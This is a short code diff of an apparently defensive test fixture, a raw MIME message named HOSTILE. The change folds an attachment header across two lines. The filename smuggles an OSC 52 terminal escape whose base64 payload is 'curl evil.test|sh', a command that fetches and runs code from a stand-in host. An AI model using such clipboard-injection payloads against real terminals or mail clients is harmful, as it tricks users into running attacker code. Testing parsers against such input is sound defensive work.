@@ -33,7 +33,8 @@ HOSTILE = (
     b"Please pay \x1b[31mnow\x1b[0m.\r\n"
     b"--b\r\n"
     b"Content-Type: text/plain\r\n"
-    b"Content-Disposition: attachment; filename*=utf-8''note%1B]52%3Bc%3BY3VybCBldmlsLnRlc3R8c2g%3D%07.txt\r\n"
+    b"Content-Disposition: attachment;\r\n"
+    b" filename*=utf-8''note%1B]52%3Bc%3BY3VybCBldmlsLnRlc3R8c2g%3D%07.txt\r\n"
     b"\r\nhello\r\n--b--\r\n"
 )
 
